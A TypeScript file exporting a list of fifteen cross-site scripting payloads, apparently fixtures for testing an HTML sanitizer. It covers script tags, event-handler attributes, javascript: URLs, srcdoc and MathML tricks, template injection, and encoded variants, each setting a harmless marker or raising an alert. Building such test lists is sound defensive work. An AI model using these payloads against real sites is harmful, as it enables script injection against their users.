/** Fifteen ways to make a page run what somebody typed. Each would set a mark or open a dialog. */
export const XSS: readonly string[] = [
  `<script>window.ran=1</script>`,
  `<img src=x onerror="window.ran=1">`,
  `"><svg onload=window.ran=1>`,
  `'><details open ontoggle=window.ran=1>x`,
  `</textarea></title></style><script>alert(1)</script>`,
  `javascript:window.ran=1`,
  `https://example.org/" onmouseover="window.ran=1`,
  `<a href="javascript:window.ran=1">https://example.org</a>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<math><mi xlink:href="data:text/html,<script>opener.ran=1</script>">x`,
  `{{constructor.constructor('window.ran=1')()}}\${window.ran=1}`,
  `--><!--<img src=x onerror=alert(1)//`,
  `&lt;script&gt;window.ran=1&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;`,
  `\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e%3Cscript%3Ealert(1)%3C/script%3E`,
  `<style>@import 'https://example.org/x.css';*{background:url(javascript:alert(1))}</style>`,
]
